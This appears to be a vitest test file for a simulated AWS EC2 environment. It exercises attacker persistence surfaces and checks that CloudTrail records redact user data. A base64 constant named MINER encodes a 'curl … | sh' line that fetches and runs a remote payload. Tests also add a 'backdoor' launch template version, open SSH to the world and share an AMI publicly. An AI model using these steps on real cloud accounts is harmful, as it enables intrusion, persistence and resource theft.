import {
  CancelSpotInstanceRequestsCommand,
  CreateImageCommand,
  CreateLaunchTemplateCommand,
  CreateLaunchTemplateVersionCommand,
  CreateSecurityGroupCommand,
  AuthorizeSecurityGroupIngressCommand,
  DeleteLaunchTemplateCommand,
  DeregisterImageCommand,
  DescribeImageAttributeCommand,
  DescribeImagesCommand,
  DescribeInstanceAttributeCommand,
  DescribeInstancesCommand,
  DescribeLaunchTemplateVersionsCommand,
  DescribeLaunchTemplatesCommand,
  DescribeSecurityGroupRulesCommand,
  DescribeSpotInstanceRequestsCommand,
  EC2Client,
  ModifyImageAttributeCommand,
  ModifyInstanceAttributeCommand,
  ModifyLaunchTemplateCommand,
  RequestSpotInstancesCommand,
  ResetImageAttributeCommand,
  RevokeSecurityGroupIngressCommand,
  RunInstancesCommand,
  StopInstancesCommand,
  TerminateInstancesCommand,
} from '@aws-sdk/client-ec2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  EXTERNAL_ACCOUNT,
  SimClock,
  VICTIM_ACCOUNT,
  createUserWithKey,
  startSim,
  type RunningSim,
} from '../../index.js';
import { amiFor } from '../../scenarios/world.js';
import { runAws, sdkConfig, type Creds } from '../../test-support/aws.js';

const ADMIN = ['arn:aws:iam::aws:policy/AdministratorAccess'];
const MINER = Buffer.from('#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n').toString('base64');
const SLOW = 240_000;

let sim: RunningSim;
let admin: Creds;

beforeAll(async () => {
  sim = await startSim({ seed: 33, clock: new SimClock({ start: '2026-05-01T09:30:00Z', frozen: true }) });
  admin = createUserWithKey(sim.state, VICTIM_ACCOUNT, 'responder', { managedPolicies: ADMIN }).key;
});
afterAll(() => sim.stop());

const ec2 = () => new EC2Client(sdkConfig(sim, admin));

interface Rec {
  eventName: string;
  requestParameters: unknown;
  responseElements: unknown;
  readOnly: boolean;
  errorCode?: string;
}
const records = (name: string): Rec[] =>
  sim.state
    .accountOrThrow(VICTIM_ACCOUNT)
    .cloudtrail.events.filter((e) => e.eventName === name) as unknown as Rec[];

async function cli(args: string[]): Promise<Record<string, unknown>> {
  const out = await runAws(sim, admin, args);
  expect(out.stderr).toBe('');
  expect(out.code).toBe(0);
  return out.stdout ? (JSON.parse(out.stdout) as Record<string, unknown>) : {};
}

describe('EC2 persistence surfaces through the SDK', () => {
  it('keeps launch template versions, the default one, and records user data as removed', async () => {
    const client = ec2();
    const created = await client.send(
      new CreateLaunchTemplateCommand({
        LaunchTemplateName: 'web-asg',
        VersionDescription: 'first',
        LaunchTemplateData: {
          ImageId: amiFor('us-east-1'),
          InstanceType: 't3.micro',
          SecurityGroupIds: ['sg-0aaa', 'sg-0bbb'],
          BlockDeviceMappings: [{ DeviceName: '/dev/xvda', Ebs: { VolumeSize: 20, Encrypted: true } }],
          MetadataOptions: { HttpTokens: 'required' },
        },
        TagSpecifications: [{ ResourceType: 'launch-template', Tags: [{ Key: 'team', Value: 'web' }] }],
      }),
    );
    const id = created.LaunchTemplate?.LaunchTemplateId ?? '';
    expect(created.LaunchTemplate).toMatchObject({
      LaunchTemplateName: 'web-asg',
      DefaultVersionNumber: 1,
      LatestVersionNumber: 1,
      CreatedBy: `arn:aws:iam::${VICTIM_ACCOUNT}:user/responder`,
      Tags: [{ Key: 'team', Value: 'web' }],
    });
    await expect(
      client.send(
        new CreateLaunchTemplateCommand({
          LaunchTemplateName: 'web-asg',
          LaunchTemplateData: { InstanceType: 't3.micro' },
        }),
      ),
    ).rejects.toMatchObject({ name: 'InvalidLaunchTemplateName.AlreadyExistsException' });
    const v2 = await client.send(
      new CreateLaunchTemplateVersionCommand({
        LaunchTemplateId: id,
        SourceVersion: '1',
        VersionDescription: 'backdoor',
        LaunchTemplateData: { UserData: MINER, KeyName: 'attacker' },
      }),
    );
    expect(v2.LaunchTemplateVersion).toMatchObject({ VersionNumber: 2, DefaultVersion: false });
    expect(v2.LaunchTemplateVersion?.LaunchTemplateData).toMatchObject({
      InstanceType: 't3.micro',
      SecurityGroupIds: ['sg-0aaa', 'sg-0bbb'],
      UserData: MINER,
      KeyName: 'attacker',
    });
    await client.send(
      new ModifyLaunchTemplateCommand({ LaunchTemplateName: 'web-asg', DefaultVersion: '2' }),
    );
    const listed = await client.send(new DescribeLaunchTemplatesCommand({}));
    expect(
      listed.LaunchTemplates?.map((t) => [
        t.LaunchTemplateName,
        t.DefaultVersionNumber,
        t.LatestVersionNumber,
      ]),
    ).toEqual([['web-asg', 2, 2]]);
    const versions = await client.send(new DescribeLaunchTemplateVersionsCommand({ LaunchTemplateId: id }));
    expect(
      versions.LaunchTemplateVersions?.map((v) => [v.VersionNumber, v.DefaultVersion, v.VersionDescription]),
    ).toEqual([
      [1, false, 'first'],
      [2, true, 'backdoor'],
    ]);
    const latest = await client.send(
      new DescribeLaunchTemplateVersionsCommand({ LaunchTemplateName: 'web-asg', Versions: ['$Default'] }),
    );
    expect(latest.LaunchTemplateVersions?.[0]?.LaunchTemplateData?.BlockDeviceMappings).toEqual([
      { DeviceName: '/dev/xvda', Ebs: { VolumeSize: 20, Encrypted: true } },
    ]);
    await expect(
      client.send(new ModifyLaunchTemplateCommand({ LaunchTemplateId: id, DefaultVersion: '9' })),
    ).rejects.toMatchObject({ name: 'InvalidLaunchTemplateId.VersionNotFound' });

    const version = records('CreateLaunchTemplateVersion')[0]!;
    expect(version.requestParameters).toMatchObject({
      CreateLaunchTemplateVersionRequest: {
        LaunchTemplateId: id,
        SourceVersion: 1,
        LaunchTemplateData: { UserData: '<sensitiveDataRemoved>', KeyName: 'attacker' },
      },
    });
    expect(version.responseElements).toMatchObject({
      CreateLaunchTemplateVersionResponse: {
        launchTemplateVersion: {
          versionNumber: 2,
          launchTemplateData: { userData: '<sensitiveDataRemoved>' },
        },
      },
    });
    expect(records('CreateLaunchTemplate')[0]?.requestParameters).toMatchObject({
      CreateLaunchTemplateRequest: {
        LaunchTemplateName: 'web-asg',
        LaunchTemplateData: {
          SecurityGroupId: [
            { tag: 1, content: 'sg-0aaa' },
            { tag: 2, content: 'sg-0bbb' },
          ],
          BlockDeviceMapping: { tag: 1, DeviceName: '/dev/xvda', Ebs: { VolumeSize: 20, Encrypted: true } },
        },
      },
    });
    expect(JSON.stringify(sim.state.accountOrThrow(VICTIM_ACCOUNT).cloudtrail.events)).not.toContain(MINER);
    const deleted = await client.send(new DeleteLaunchTemplateCommand({ LaunchTemplateId: id }));
    expect(deleted.LaunchTemplate?.LaunchTemplateName).toBe('web-asg');
    await expect(
      client.send(new DescribeLaunchTemplatesCommand({ LaunchTemplateIds: [id] })),
    ).rejects.toMatchObject({ name: 'InvalidLaunchTemplateId.NotFound' });
  });

  it('fulfils a Spot request with a spot instance, and cancelling leaves the instance running', async () => {
    const client = ec2();
    const asked = await client.send(
      new RequestSpotInstancesCommand({
        SpotPrice: '0.90',
        InstanceCount: 1,
        Type: 'one-time',
        LaunchSpecification: { ImageId: amiFor('us-east-1'), InstanceType: 'c5.large', UserData: MINER },
      }),
    );
    const request = asked.SpotInstanceRequests?.[0];
    expect(request).toMatchObject({ State: 'open', Status: { Code: 'pending-evaluation' } });
    const id = request?.SpotInstanceRequestId ?? '';
    const described = await client.send(
      new DescribeSpotInstanceRequestsCommand({ SpotInstanceRequestIds: [id] }),
    );
    const active = described.SpotInstanceRequests?.[0];
    expect(active).toMatchObject({
      State: 'active',
      Status: { Code: 'fulfilled' },
      LaunchSpecification: { InstanceType: 'c5.large', UserData: MINER },
    });
    const instances = await client.send(
      new DescribeInstancesCommand({ InstanceIds: [active?.InstanceId ?? ''] }),
    );
    expect(instances.Reservations?.[0]?.Instances?.[0]).toMatchObject({
      InstanceLifecycle: 'spot',
      SpotInstanceRequestId: id,
    });
    const cancelled = await client.send(
      new CancelSpotInstanceRequestsCommand({ SpotInstanceRequestIds: [id] }),
    );
    expect(cancelled.CancelledSpotInstanceRequests).toEqual([
      { SpotInstanceRequestId: id, State: 'cancelled' },
    ]);
    const after = await client.send(
      new DescribeSpotInstanceRequestsCommand({ Filters: [{ Name: 'state', Values: ['cancelled'] }] }),
    );
    expect(after.SpotInstanceRequests?.[0]?.Status?.Code).toBe('request-canceled-and-instance-running');
    expect(records('RequestSpotInstances')[0]?.requestParameters).toMatchObject({
      spotPrice: '0.90',
      launchSpecification: { instanceType: 'c5.large', userData: '<sensitiveDataRemoved>' },
    });
    await expect(
      client.send(new CancelSpotInstanceRequestsCommand({ SpotInstanceRequestIds: ['sir-00000000'] })),
    ).rejects.toMatchObject({ name: 'InvalidSpotInstanceRequestID.NotFound' });
  });

  it('lists rules by group, changes user data of a stopped instance, and unshares and deregisters an AMI', async () => {
    const client = ec2();
    const group = await client.send(new CreateSecurityGroupCommand({ GroupName: 'ops', Description: 'ops' }));
    await client.send(
      new AuthorizeSecurityGroupIngressCommand({
        GroupId: group.GroupId,
        IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }],
      }),
    );
    const rules = await client.send(
      new DescribeSecurityGroupRulesCommand({
        Filters: [{ Name: 'group-id', Values: [group.GroupId ?? ''] }],
      }),
    );
    const ingress = rules.SecurityGroupRules?.find((r) => !r.IsEgress);
    expect(ingress).toMatchObject({
      IpProtocol: 'tcp',
      FromPort: 22,
      CidrIpv4: '0.0.0.0/0',
      GroupId: group.GroupId,
    });
    expect(rules.SecurityGroupRules?.filter((r) => r.IsEgress)).toHaveLength(1);
    await client.send(
      new RevokeSecurityGroupIngressCommand({
        GroupId: group.GroupId,
        SecurityGroupRuleIds: [ingress?.SecurityGroupRuleId ?? ''],
      }),
    );
    expect(
      (
        await client.send(
          new DescribeSecurityGroupRulesCommand({
            Filters: [{ Name: 'group-id', Values: [group.GroupId ?? ''] }],
          }),
        )
      ).SecurityGroupRules,
    ).toHaveLength(1);

    const run = await client.send(
      new RunInstancesCommand({
        ImageId: amiFor('us-east-1'),
        InstanceType: 't3.micro',
        MinCount: 1,
        MaxCount: 1,
      }),
    );
    const instanceId = run.Instances?.[0]?.InstanceId ?? '';
    await expect(
      client.send(
        new ModifyInstanceAttributeCommand({
          InstanceId: instanceId,
          UserData: { Value: new TextEncoder().encode('x') },
        }),
      ),
    ).rejects.toMatchObject({ name: 'IncorrectInstanceState' });
    await client.send(new StopInstancesCommand({ InstanceIds: [instanceId] }));
    await client.send(
      new ModifyInstanceAttributeCommand({
        InstanceId: instanceId,
        UserData: { Value: Buffer.from(MINER, 'base64') },
      }),
    );
    const data = await client.send(
      new DescribeInstanceAttributeCommand({ InstanceId: instanceId, Attribute: 'userData' }),
    );
    expect(data.UserData?.Value).toBe(MINER);
    const modified = records('ModifyInstanceAttribute').filter((r) => !r.errorCode)[0]!;
    expect(modified.requestParameters).toEqual({ instanceId, userData: '<sensitiveDataRemoved>' });
    expect(modified.responseElements).toMatchObject({ _return: true });

    const image = await client.send(new CreateImageCommand({ InstanceId: instanceId, Name: 'golden' }));
    const imageId = image.ImageId ?? '';
    await client.send(
      new ModifyImageAttributeCommand({
        ImageId: imageId,
        LaunchPermission: { Add: [{ UserId: EXTERNAL_ACCOUNT }, { Group: 'all' }] },
      }),
    );
    expect(
      (
        await client.send(
          new DescribeImageAttributeCommand({ ImageId: imageId, Attribute: 'launchPermission' }),
        )
      ).LaunchPermissions,
    ).toEqual([{ Group: 'all' }, { UserId: EXTERNAL_ACCOUNT }]);
    await client.send(new ResetImageAttributeCommand({ ImageId: imageId, Attribute: 'launchPermission' }));
    expect(
      (
        await client.send(
          new DescribeImageAttributeCommand({ ImageId: imageId, Attribute: 'launchPermission' }),
        )
      ).LaunchPermissions,
    ).toEqual([]);
    await client.send(new DeregisterImageCommand({ ImageId: imageId }));
    expect((await client.send(new DescribeImagesCommand({ Owners: ['self'] }))).Images).toEqual([]);
    await client.send(new TerminateInstancesCommand({ InstanceIds: [instanceId] }));
  });
});

describe('EC2 persistence surfaces through /usr/bin/aws', () => {
  it(
    'creates and versions a launch template and reads its data back',
    async () => {
      await cli([
        'ec2',
        'create-launch-template',
        '--launch-template-name',
        'cli-lt',
        '--launch-template-data',
        JSON.stringify({ ImageId: amiFor('us-east-1'), InstanceType: 't3.micro', UserData: MINER }),
      ]);
      await cli([
        'ec2',
        'create-launch-template-version',
        '--launch-template-name',
        'cli-lt',
        '--source-version',
        '1',
        '--launch-template-data',
        '{"InstanceType":"p3.2xlarge"}',
      ]);
      await cli([
        'ec2',
        'modify-launch-template',
        '--launch-template-name',
        'cli-lt',
        '--default-version',
        '2',
      ]);
      const versions = (await cli([
        'ec2',
        'describe-launch-template-versions',
        '--launch-template-name',
        'cli-lt',
        '--versions',
        '$Default',
      ])) as {
        LaunchTemplateVersions: { VersionNumber: number; LaunchTemplateData: Record<string, unknown> }[];
      };
      expect(versions.LaunchTemplateVersions.map((v) => [v.VersionNumber, v.LaunchTemplateData])).toEqual([
        [2, { ImageId: amiFor('us-east-1'), InstanceType: 'p3.2xlarge', UserData: MINER }],
      ]);
      const listed = (await cli([
        'ec2',
        'describe-launch-templates',
        '--launch-template-names',
        'cli-lt',
      ])) as {
        LaunchTemplates: { DefaultVersionNumber: number }[];
      };
      expect(listed.LaunchTemplates[0]?.DefaultVersionNumber).toBe(2);
      await cli(['ec2', 'delete-launch-template', '--launch-template-name', 'cli-lt']);
    },
    SLOW,
  );

  it(
    'requests, lists and cancels Spot Instances, and lists security group rules',
    async () => {
      const spec = JSON.stringify({ ImageId: amiFor('us-east-1'), InstanceType: 'g4dn.xlarge' });
      const asked = (await cli([
        'ec2',
        'request-spot-instances',
        '--instance-count',
        '2',
        '--launch-specification',
        spec,
      ])) as {
        SpotInstanceRequests: { SpotInstanceRequestId: string }[];
      };
      const ids = asked.SpotInstanceRequests.map((r) => r.SpotInstanceRequestId);
      expect(ids).toHaveLength(2);
      const listed = (await cli([
        'ec2',
        'describe-spot-instance-requests',
        '--filters',
        'Name=launch.instance-type,Values=g4dn.xlarge',
      ])) as { SpotInstanceRequests: { State: string; InstanceId: string }[] };
      expect(listed.SpotInstanceRequests.map((r) => r.State)).toEqual(['active', 'active']);
      await cli(['ec2', 'cancel-spot-instance-requests', '--spot-instance-request-ids', ...ids]);
      await cli([
        'ec2',
        'terminate-instances',
        '--instance-ids',
        ...listed.SpotInstanceRequests.map((r) => r.InstanceId),
      ]);
      const rules = (await cli(['ec2', 'describe-security-group-rules'])) as {
        SecurityGroupRules: { SecurityGroupRuleId: string }[];
      };
      expect(rules.SecurityGroupRules.length).toBeGreaterThan(0);
    },
    SLOW,
  );
});
